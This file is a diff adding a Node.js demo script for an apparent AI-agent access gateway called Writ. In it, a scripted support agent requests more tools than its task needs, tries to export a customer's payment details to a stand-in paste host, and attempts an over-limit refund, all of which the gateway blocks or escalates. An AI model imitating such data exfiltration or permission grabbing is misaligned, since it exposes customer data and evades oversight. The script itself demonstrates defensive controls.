@@ -1,0 +1,132 @@
+#!/usr/bin/env node
+/**
+ * `npm run example:mcp`: the MCP gateway, end to end, in one command.
+ *
+ *   1. starts Writ (`writ serve --dev`) with writ.yaml beside this file, in a
+ *      throwaway data folder;
+ *   2. stores the tickets server's API key in Writ's vault, registers a
+ *      support agent, and gets it an identity token (Writ's dev issuer);
+ *   3. runs a scripted agent with the official MCP SDK client against
+ *      Writ's /mcp: it lists its tools, asks for access for one task, reads a
+ *      ticket, is denied an export, triggers an approval for a large refund,
+ *      makes a small one, and completes its task;
+ *   4. checks the audit chain.
+ */
+import { spawn } from 'node:child_process';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:net';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { Client, StreamableHTTPClientTransport } from '@modelcontextprotocol/client';
+
+const here = dirname(fileURLToPath(import.meta.url));
+const WRIT = join(here, '..', '..', 'bin', 'writ.js');
+const AGENT = 'spiffe://demo.local/agent/support';
+
+const say = (line = '') => process.stdout.write(`${line}\n`);
+const show = (label, value) => say(`  ${label.padEnd(22)} ${typeof value === 'string' ? value : JSON.stringify(value)}`);
+
+const dataDir = mkdtempSync(join(tmpdir(), 'writ-mcp-example-'));
+const configFile = join(dataDir, 'writ.yaml');
+// The example's writ.yaml, with the tickets server found from this folder.
+writeFileSync(configFile, readFileSync(join(here, 'writ.yaml'), 'utf8').replace('cwd: .', `cwd: ${JSON.stringify(here)}`).replace('command: node', `command: ${JSON.stringify(process.execPath)}`));
+const env = { ...process.env, WRIT_DATA_DIR: dataDir };
+for (const key of Object.keys(env)) if (key.startsWith('WRIT_') && key !== 'WRIT_DATA_DIR') delete env[key];
+
+function writ(args, input) {
+  return new Promise((resolve, reject) => {
+    const child = spawn(process.execPath, [WRIT, ...args, '--config', configFile], { env, stdio: ['pipe', 'pipe', 'pipe'] });
+    let out = '';
+    let err = '';
+    child.stdout.on('data', (c) => (out += c));
+    child.stderr.on('data', (c) => (err += c));
+    child.on('error', reject);
+    child.on('close', (code) => (code === 0 ? resolve(out.trim()) : reject(new Error(`writ ${args.join(' ')} exited ${code}: ${err.trim()}`))));
+    child.stdin.end(input ?? '');
+  });
+}
+
+const port = await new Promise((resolve) => {
+  const probe = createServer().listen(0, '127.0.0.1', () => {
+    const { port: free } = probe.address();
+    probe.close(() => resolve(free));
+  });
+});
+const server = spawn(process.execPath, [WRIT, 'serve', '--dev', '--config', configFile, '--port', String(port)], { env, stdio: ['ignore', 'ignore', 'pipe'] });
+let serverLog = '';
+server.stderr.on('data', (c) => (serverLog += c));
+const url = `http://127.0.0.1:${port}`;
+
+let client;
+let failed = false;
+try {
+  for (let tries = 0; ; tries++) {
+    try {
+      if ((await fetch(`${url}/healthz`)).ok) break;
+    } catch {
+      if (tries > 200) throw new Error(`Writ did not start:\n${serverLog}`);
+      await new Promise((r) => setTimeout(r, 50));
+    }
+  }
+  say(`Writ is up at ${url}, with the tickets MCP server behind /mcp.`);
+  await writ(['secret', 'set', 'tickets-api-key'], 'sk_live_tickets_example_key\n');
+  say('Stored the tickets server\'s API key in Writ\'s vault (the agent never sees it).');
+  await writ(['identity', 'register', '--spiffe-id', AGENT, '--owner', 'alice@example.com', '--environment', 'production']);
+  const identityToken = await writ(['identity', 'token', AGENT]);
+  say(`Registered ${AGENT} (owner alice@example.com) and got it an identity token.`);
+  say();
+
+  client = new Client({ name: 'support-agent', version: '1.0.0' });
+  await client.connect(new StreamableHTTPClientTransport(new URL(`${url}/mcp`), { requestInit: { headers: { Authorization: `Bearer ${identityToken}` } } }));
+  const list = async () => (await client.listTools()).tools.map((t) => t.name);
+  const call = async (name, args) => {
+    const result = await client.callTool({ name, arguments: args });
+    return { result, text: result.content?.[0]?.text ?? '' };
+  };
+
+  say('Agent: connects with its identity token and lists its tools');
+  show('tools', await list());
+
+  say('Agent: request_access for ticket work (and, greedily, an export and key rotation)');
+  const { result: access } = await call('request_access', {
+    purpose: 'Answer ticket T-1042: damaged parcel, customer wants a refund',
+    intent: 'customer-support',
+    tools: ['tickets__get_ticket', 'tickets__add_comment', 'tickets__create_refund', 'tickets__export_customer_data', 'tickets__rotate_api_keys'],
+    ttl: '10m',
+  });
+  show('decision', access.structuredContent.status);
+  show('granted', access.structuredContent.grantedTools);
+  show('refused', access.structuredContent.refusedTools);
+  show('tools now', await list());
+
+  say('Agent: reads the ticket');
+  show('tickets__get_ticket', JSON.parse((await call('tickets__get_ticket', { ticketId: 'T-1042' })).text).subject);
+
+  say('Agent: tries to export the customer\'s payment details anyway');
+  const exported = await call('tickets__export_customer_data', { customerId: 'C-7', destination: 'https://paste.example' });
+  show('answer', exported.text);
+
+  say('Agent: refunds $250, over the $100 it may refund alone');
+  const big = await call('tickets__create_refund', { ticketId: 'T-1042', amountCents: 25000 });
+  show('answer', big.text);
+
+  say('Agent: refunds $40 instead, within its limit');
+  show('tickets__create_refund', (await call('tickets__create_refund', { ticketId: 'T-1042', amountCents: 4000 })).text);
+
+  say('Agent: notes it on the ticket and completes its task');
+  show('tickets__add_comment', (await call('tickets__add_comment', { ticketId: 'T-1042', text: 'Refunded $40 for the damaged parcel.' })).text);
+  show('complete_task', (await call('complete_task', { note: 'refund issued' })).result.structuredContent);
+  show('tools now', await list());
+  say();
+  say(await writ(['audit', 'verify']));
+} catch (error) {
+  failed = true;
+  process.stderr.write(`example failed: ${error?.stack ?? error}\n${serverLog}\n`);
+} finally {
+  await client?.close().catch(() => undefined);
+  server.kill('SIGTERM');
+  await new Promise((r) => (server.exitCode !== null ? r() : server.once('exit', r)));
+  rmSync(dataDir, { recursive: true, force: true });
+}
+process.exitCode = failed ? 1 : 0;
